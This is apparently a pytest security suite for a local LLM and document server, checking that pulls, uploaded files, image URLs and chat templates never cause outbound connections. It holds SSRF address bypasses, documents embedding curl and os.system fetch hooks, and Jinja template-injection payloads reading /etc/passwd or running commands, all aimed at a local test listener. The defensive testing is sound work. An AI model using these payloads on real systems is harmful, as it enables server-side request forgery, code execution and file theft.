"""Nothing leaves the machine, whatever a client, a document or a model asks for."""

from __future__ import annotations

import asyncio
import json
import socket
import threading
from contextlib import closing, contextmanager, suppress
from urllib.parse import urlsplit

import docx
import httpx
import openpyxl
import pytest

from app.compose import compose_engine
from app.server import build_app
from engine.errors import ChatTemplateError
from engine.library.template.jinja import render_chat
from engine.types import Message
from tests.app.conftest import settings_at
from tests.ingest.load.making import parts_of, zipped
from tests.ingest.load.test_bombs import book
from tests.security.conftest import finished
from tests.security.test_bombs import SMALL_PAGE, pdf
from tests.security.wire import SENT


class Listener:
    """A server that counts who comes, and has nothing."""

    def __init__(self):
        self.n_came = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.at = f"127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while True:
            try:
                line, _ = self._socket.accept()
            except OSError:
                return
            self.n_came += 1
            with closing(line), suppress(OSError):
                line.settimeout(5)
                line.recv(65536)
                line.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")

    def close(self):
        # The thread waits in accept, which a close alone does not end.
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


@pytest.fixture
def listener():
    with closing(Listener()) as one:
        yield one


@pytest.fixture
def connected(monkeypatch, locked):
    """Record where this process connects to, the test's own way to the server left out."""
    own, found = urlsplit(locked.url).port, []
    plain, plain_ex = socket.socket.connect, socket.socket.connect_ex

    def noted(self, address):
        if self.family in (socket.AF_INET, socket.AF_INET6) and address[1] != own:
            found.append(address)

    def connect(self, address):
        noted(self, address)
        return plain(self, address)

    def connect_ex(self, address):
        noted(self, address)
        return plain_ex(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    return found


# Pulls

INSIDE = (
    "http://127.0.0.1:PORT/library/x",
    "https://127.0.0.1:PORT/library/x",
    "127.0.0.1:PORT/library/x",
    "localhost:PORT/library/x",
    "LOCALHOST:PORT/library/x",
    "http://127.1:PORT/library/x",
    "http://127.0.1:PORT/library/x",
    "http://2130706433:PORT/library/x",
    "http://0x7f000001:PORT/library/x",
    "http://0177.0.0.1:PORT/library/x",
    "http://0:PORT/library/x",
    "http://0.0.0.0:PORT/library/x",
    "http://[::1]:PORT/library/x",
    "http://[::ffff:127.0.0.1]:PORT/library/x",
    "http://[::ffff:7f00:1]:PORT/library/x",
    "http://127.0.0.1:PORT@127.0.0.1:PORT/library/x",
    "http://registry.ollama.ai@127.0.0.1:PORT/library/x",
    "http://127.0.0.1:PORT#registry.ollama.ai/library/x",
    "http://127.0.0.1:PORT\\@registry.ollama.ai/library/x",
    "http://169.254.169.254/latest/meta-data",
    "http://10.0.0.1/library/x",
    "http://192.168.0.1:8080/library/x",
    "http://[fd00::1]/library/x",
    "http://[fe80::1]/library/x",
    "http://[64:ff9b::7f00:1]:PORT/library/x",
    "file:///etc/passwd",
    "gopher://127.0.0.1:PORT/x",
    "ftp://127.0.0.1:PORT/x/y",
    "unix:///var/run/docker.sock/x",
    "hf.co@127.0.0.1:PORT/x/y",
    "//127.0.0.1:PORT/x/y",
    "http:127.0.0.1:PORT/x/y",
    "http://127。0。0。1:PORT/library/x",
    "http://①②⑦.0.0.1:PORT/library/x",
    "127.0.0.1:PORT/../../x",
    "http://127.0.0.1:PORT/v2/?x=/library/y",
    "http://127.0.0.1:PORT/x y/z\r\nHost: evil/x",
)


@pytest.mark.parametrize("name", INSIDE)
def test_a_pull_reaches_nothing_inside_while_keys_are_asked_for(locked, listener, connected, name):
    model = name.replace("PORT", str(listener.port))
    for path, body in (
        ("/api/pull", {"model": model, "insecure": True, "stream": False}),
        ("/api/pull", {"name": model, "stream": True}),
        ("/kb/models/pulls", {"model": model, "insecure": True}),
        ("/api/push", {"model": model, "insecure": True, "stream": False}),
        ("/api/create", {"model": "mine", "from": model, "stream": False}),
        ("/api/show", {"model": model}),
        ("/api/chat", {"model": model, "messages": [{"role": "user", "content": "x"}]}),
    ):
        reply = locked.admin("POST", path, json=body)
        told = reply.text.casefold()
        assert reply.status_code >= 400 or "error" in told or path == "/kb/models/pulls", path
        assert "root:x:" not in told
    for one in locked.admin("GET", "/kb/models/pulls").json()["pulls"]:
        locked.admin("DELETE", f"/kb/models/pulls/{one['id']}")

    assert connected == []
    assert listener.n_came == 0


@contextmanager
def engine_at(tmp_path, **more):
    """Open the engine alone; give what asks it with the key of a file."""
    key = tmp_path / "key"
    key.write_text("k" * 40, encoding="ascii")
    settings = settings_at(
        tmp_path / "home", tmp_path / "models", QUIRE_ADMIN_KEY_FILE=str(key), **more
    )
    with compose_engine(settings) as parts:
        app = build_app(parts, has_ui=False)

        def ask(path, body):
            async def go():
                transport = httpx.ASGITransport(app)
                async with httpx.AsyncClient(
                    transport=transport, base_url="http://127.0.0.1", timeout=60
                ) as http:
                    return await http.post(path, json=body, headers={"X-API-Key": "k" * 40})

            return asyncio.run(go())

        yield ask


@pytest.mark.parametrize(
    ("more", "is_reached"),
    [
        ({}, True),  # nobody but who sits at this machine
        ({"QUIRE_AUTH": "on"}, False),
        ({"QUIRE_HOST": "0.0.0.0"}, False),
        ({"QUIRE_HOST": "0.0.0.0", "QUIRE_AUTH": "off"}, False),
        ({"QUIRE_AUTH": "on", "OLLAMA_REGISTRIES": "AT"}, True),
        ({"QUIRE_AUTH": "on", "OLLAMA_REGISTRIES": "localhost"}, False),
        ({"OLLAMA_REGISTRIES": "hub.example"}, False),
    ],
    ids=str,
)
def test_what_is_inside_is_reached_by_its_user_alone_or_if_it_is_listed(
    tmp_path, listener, more, is_reached
):
    named = {
        name: value.replace("AT", listener.at) if value == "AT" else value
        for name, value in more.items()
    }
    body = {"model": f"http://{listener.at}/library/x", "insecure": True, "stream": False}

    with engine_at(tmp_path, **named) as ask:
        reply = ask("/api/pull", body)

    assert reply.status_code >= 400 or "error" in reply.text
    assert (listener.n_came > 0) is is_reached, reply.text


# Documents


def page_of(at):
    return (
        f"<html><head><link rel=stylesheet href=http://{at}/a><base href=http://{at}/>"
        f"<meta http-equiv=refresh content='0;url=http://{at}/b'>"
        f"<style>@import url(http://{at}/c);p{{background:url(http://{at}/d)}}</style>"
        f"<script src=http://{at}/e></script></head><body><p>words</p><img src=http://{at}/f "
        f"srcset=http://{at}/g><iframe src=http://{at}/h></iframe><object data=http://{at}/i>"
        f"</object><embed src=http://{at}/j><video src=http://{at}/k></video>"
        f"<svg><image href=http://{at}/l /></svg></body></html>"
    )


def svg_of(at):
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="http://{at}/a"?>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="http://{at}/b"/><use href="http://{at}/c#x"/>'
        f"<style>@import 'http://{at}/d';</style><text>words</text></svg>"
    )


def word_of(at):
    parts = parts_of(docx.Document())
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = "".join(
        f'<Relationship Id="x{n}" Type="{kind}/{one}" Target="http://{at}/{one}" '
        'TargetMode="External"/>'
        for n, one in enumerate(("image", "attachedTemplate", "frame", "oleObject", "hyperlink"))
    ).encode()
    rels = "word/_rels/document.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", outside + b"</Relationships>")
    return zipped(parts)


def sheet_of(at):
    made = openpyxl.Workbook()
    made.active.append(["words", f'=WEBSERVICE("http://{at}/a")', f'=IMAGE("http://{at}/b")'])
    made.active["A2"].hyperlink = f"http://{at}/c"
    parts = parts_of(made)
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r" Type="x" Target="http://{at}/d" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return zipped(parts)


def mail_of(at):
    return (
        "Subject: words\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        f"--b\nContent-Type: text/html\n\n{page_of(at)}\n"
        f'--b\nContent-Type: message/external-body; access-type=URL; URL="http://{at}/x"\n\n\n'
        "--b--\n"
    )


def xml_of(at):
    return (
        f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://{at}/a.dtd"><r '
        'xmlns:xi="http://www.w3.org/2001/XInclude" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://{at}/ns http://{at}/b.xsd">words'
        f'<xi:include href="http://{at}/c"/><xi:include href="file:///etc/passwd" parse="text"/>'
        "</r>"
    )


def notebook_of(at):
    cell = {
        "cell_type": "markdown",
        "metadata": {},
        "source": [f"words ![x](http://{at}/a) <img src=http://{at}/b>"],
        "attachments": {"x": {"image/png": f"http://{at}/c"}},
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def pdf_of(at):
    action = (
        f"/AA<</O<</S/URI/URI(http://{at}/a)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
        f"/A<</S/URI/URI(http://{at}/b)>>>>]"
    ).encode()
    outside = f"/F<</FS/URL/F(http://{at}/c)>>".encode()
    return pdf(SMALL_PAGE + action, b"BT ET", outside)


def book_of(at):
    return zipped(book(page=page_of(at), listed=f'href="http://{at}/a.xhtml"'))


DOCUMENTS = {
    "a.html": page_of,
    "a.svg": svg_of,
    "a.docx": word_of,
    "a.xlsx": sheet_of,
    "a.eml": mail_of,
    "a.xml": xml_of,
    "a.rss": lambda at: f'<rss><channel><item><enclosure url="http://{at}/a"/>words</item></channel></rss>',
    "a.ipynb": notebook_of,
    "a.pdf": pdf_of,
    "a.epub": book_of,
    "a.md": lambda at: f"words ![x](http://{at}/a) <img src='http://{at}/b'>\n",
    "a.rst": lambda at: f"words\n\n.. image:: http://{at}/a\n\n.. include:: /etc/passwd\n",
    "a.tex": lambda at: "\\input{/etc/passwd} \\write18{curl http://" + at + "/a} words",
    "a.org": lambda at: f"#+INCLUDE: /etc/passwd\n[[http://{at}/a]] words",
    "a.yaml": lambda at: f"a: !!python/object/apply:os.system ['curl http://{at}/a']\n",
    "a.url": lambda at: f"[InternetShortcut]\nURL=http://{at}/a\n",
    "a.rtf": lambda at: "{\\rtf1 words {\\field{\\*\\fldinst INCLUDEPICTURE http://" + at + "/a}}}",
    "a.csv": lambda at: f'words,=WEBSERVICE("http://{at}/a")\n',
}  # fmt: skip


def test_no_document_makes_the_server_fetch_anything(locked, listener, connected):
    made = {name: make(listener.at) for name, make in DOCUMENTS.items()}
    files = [
        ("files", (name, text.encode() if isinstance(text, str) else text))
        for name, text in made.items()
    ]
    locked.http.headers["X-API-Key"] = locked.keys["admin"]
    try:
        sent = locked.admin("POST", "/kb/documents", files=files, data={"collection": "outbound"})
        job = finished(locked.http, sent.json()["job_id"], within_s=100)
    finally:
        del locked.http.headers["X-API-Key"]
    listed = locked.admin("GET", "/kb/documents?collection=outbound").json()["documents"]
    for one in listed:
        text = locked.admin("GET", f"/kb/documents/{one['id']}/text")
        locked.admin("GET", f"/kb/documents/{one['id']}/pages/1/image")
        assert "root:x:" not in text.text
    locked.admin("POST", "/kb/query", json={"question": "words?", "collection": "outbound"})

    assert job["state"] == "done"
    assert len(listed) > len(DOCUMENTS) // 2
    assert connected == []
    assert listener.n_came == 0


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/api/experimental/web_search"),
        ("POST", "/api/experimental/web_fetch"),
        ("GET", "/api/experimental/model-recommendations"),
        ("POST", "/api/me"),
        ("POST", "/api/signout"),
        ("DELETE", "/api/user/keys/x"),
    ],
)
def test_what_others_ask_of_a_cloud_goes_nowhere(locked, listener, connected, method, path):
    body = {"query": SENT, "url": f"http://{listener.at}/a", "max_results": 3}

    reply = locked.admin(method, path, json=body if method != "GET" else None)

    assert reply.status_code >= 400 or path.endswith("recommendations")
    assert connected == []
    assert listener.n_came == 0


@pytest.mark.parametrize("field", ["images", "image_url", "input_image"])
def test_a_picture_by_its_address_is_not_fetched(locked, listener, connected, field):
    address = f"http://{listener.at}/a.png"
    said = [
        ("/api/chat", {"messages": [{"role": "user", "content": "x", "images": [address]}]}),
        (
            "/v1/chat/completions",
            {
                "messages": [
                    {
                        "role": "user",
                        "content": [{"type": "image_url", "image_url": {"url": address}}],
                    }
                ]
            },
        ),
        (
            "/v1/responses",
            {"input": [{"role": "user", "content": [{"type": field, "image_url": address}]}]},
        ),
        (
            "/v1/messages",
            {
                "max_tokens": 5,
                "messages": [
                    {
                        "role": "user",
                        "content": [{"type": "image", "source": {"type": "url", "url": address}}],
                    }
                ],
            },
        ),
    ]
    for path, body in said:
        reply = locked.admin("POST", path, json={"model": "smollm2:135m", "stream": False} | body)
        assert reply.status_code >= 400, path
    assert connected == []
    assert listener.n_came == 0


TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__['os'].system('id') }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ self._TemplateReference__context.eval_ctx.environment }}",
    "{{ messages.__class__.__base__ }}",
    "{{ messages | attr('__class__') }}",
    "{{ messages | map(attribute='__class__') | list }}",
    "{{ ('{0.__class__.__init__.__globals__}').format(messages) }}",
    "{{ ('%s' | format(raise_exception.__globals__)) }}",
    "{{ raise_exception.__globals__ }}",
    "{{ strftime_now.__globals__.os }}",
    "{{ tojson.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}{{ x }}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import popen %}{{ popen('id') }}",
    "{% set x = messages.append('x') %}{{ messages }}",
    "{{ messages.clear() }}{{ messages.pop() }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ __import__('os').popen('id').read() }}",
    "{{ range.__self__ }}",
    "{{ ''['__cl' ~ 'ass__'] }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ config }}{{ request }}{{ self.__dict__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
)
SHOWS = ("root:", "uid=", "<class", "<module", "<function", "subprocess", "/usr/", "environ")


@pytest.mark.parametrize("template", TEMPLATES)
def test_a_models_template_reaches_neither_files_nor_classes(connected, template):
    try:
        text = render_chat(template, [Message("user", "hi")], bos="", eos="")
    except ChatTemplateError:
        text = ""

    assert not any(one in text for one in SHOWS), text
    assert connected == []
